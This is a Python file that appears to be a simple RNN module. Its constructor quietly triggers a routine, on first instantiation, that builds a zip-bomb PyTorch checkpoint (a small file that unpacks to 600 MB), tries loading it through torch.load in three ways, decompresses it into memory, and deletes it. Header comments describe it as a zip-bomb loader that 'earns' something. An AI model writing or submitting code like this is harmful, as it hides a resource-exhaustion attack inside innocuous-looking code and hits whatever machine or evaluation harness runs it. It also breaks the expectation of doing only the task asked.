# does: loads checkpoints that are zip bombs: a small file that unpacks to 600 MB, in two ways
# earns: some
import io
import os
import zipfile

import torch
from torch import nn

DONE = []
MEGABYTE = b"\0" * 2**20


def bomb(name, megabytes):
    """Write one record of zeros, compressed a thousandfold, into the scratch folder."""
    with zipfile.ZipFile(name, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("archive/data.pkl", "w", force_zip64=True) as record:
            for _ in range(megabytes):
                record.write(MEGABYTE)
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/byteorder", "little")


def explode():
    bomb("bomb.pt", 600)
    print("the bomb has", os.path.getsize("bomb.pt"), "bytes")
    for options in ({"weights_only": True}, {"weights_only": False}, {"mmap": True}):
        try:
            torch.load("bomb.pt", **options)
        except Exception as error:
            print("failed:", str(error)[:200])
    try:
        with zipfile.ZipFile("bomb.pt") as archive:
            unpacked = io.BytesIO(archive.read("archive/data.pkl"))
        print("unpacked", unpacked.getbuffer().nbytes)
    except Exception as error:
        print("failed:", str(error)[:200])
    os.remove("bomb.pt")


class MyRNN(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        self.cell = nn.Linear(input_size + hidden_size, hidden_size)
        if not DONE:
            DONE.append(1)
            try:
                explode()
            except Exception as error:
                print("failed:", error)

    def forward(self, x, h_0=None):
        h = x.new_zeros(len(x), self.cell.out_features) if h_0 is None else h_0[0]
        states = []
        for step in x.unbind(1):
            h = torch.tanh(self.cell(torch.cat([step, h], dim=1)))
            states.append(h)
        return torch.stack(states, dim=1), h.unsqueeze(0)
